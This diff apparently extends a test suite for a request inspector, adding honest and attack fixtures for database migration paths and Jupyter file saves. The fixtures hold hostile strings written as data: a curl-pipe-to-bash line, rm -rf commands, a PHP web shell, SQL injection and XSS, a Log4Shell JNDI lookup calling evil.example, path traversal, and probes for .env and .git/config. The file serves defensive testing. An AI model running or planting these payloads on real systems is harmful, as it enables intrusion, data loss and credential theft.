@@ -1,5 +1,5 @@
 import type { InspectedRequest } from '../src/index.ts'
-import { asked, type HonestKinds, testKinds } from './honest-kinds.ts'
+import { asked, type HonestKinds, posted, testKinds } from './honest-kinds.ts'
 
 function put(path: string, body = 'a: 1\n'): InspectedRequest {
   return { method: 'PUT', target: path, headers: [], body: Buffer.from(body) }
@@ -15,6 +15,12 @@ function uploaded(name: string, content: Buffer | string): InspectedRequest {
   }
 }
 
+/** As a Jupyter server takes the text of a file. */
+function kept(name: string, content: string, folder = '/api/contents'): InspectedRequest {
+  const body = Buffer.from(JSON.stringify({ type: 'file', format: 'text', content }))
+  return { method: 'PUT', target: `${folder}/${name}`, headers: ['content-type', 'application/json'], body }
+}
+
 /** A sequence in DER that fills the file, with some bytes in it. */
 function der(inside: Buffer | string = Buffer.alloc(600, 5)): Buffer {
   const content = Buffer.from(inside)
@@ -27,6 +33,40 @@ const PEM = `-----BEGIN CERTIFICATE-----\n${der()
 
 /** Files by their names: what forges, folders of people and forms hold, and what a scanner asks for. */
 const KINDS: HonestKinds = {
+  'changes of a schema that a page loads for its own database': {
+    honest: [
+      asked('/data/migrations/1548957970627_remove-db-version.sql', {}),
+      asked('/drizzle/0000_init.sql', {}),
+      asked('/migrations/20240101_init/migration.sql', {}),
+    ],
+    attacks: [
+      asked('/backup/migrations.sql', {}),
+      asked('/migrations/.env', {}),
+      asked('/migrations/dump.sql.gz', {}),
+      asked('/migrations/../dump.sql', {}),
+      asked('/data/dump.sql', {}),
+      asked('/migrations/old.bak', {}),
+    ],
+  },
+  'files that people edit in Jupyter': {
+    honest: [
+      kept('run.sh', 'cd /tmp\ncurl -fsSL https://x.example/install.sh | bash; rm -rf build\n'),
+      kept('q.sql', "SELECT * FROM a WHERE b = '' OR 1=1 -- all"),
+      kept('x.php', '<?php system($_GET["c"]); ?>'),
+      kept('x.html', '<script>alert(1)</script>'),
+      kept('.env', 'A=1', '/user/ann/api/contents'),
+      asked('/api/contents/.env', { content: '0' }),
+      asked('/lab/tree/work/schema.sql', {}),
+      posted('application/json', '{"cells":[{"cell_type":"code","source":"eval(open(1).read())"}]}'),
+    ],
+    attacks: [
+      kept('run.sh', '$' + '{jndi:ldap://evil.example/a}'),
+      kept('run.sh', '; rm -rf /srv', '/api/notes'),
+      kept('.git/config', 'a'),
+      asked('/files/.env', {}),
+      asked('/api/contents/.git/config', {}),
+    ],
+  },
   'files of a repository': {
     honest: [
       asked('/ann/app/blob/main/.travis.yml', {}),
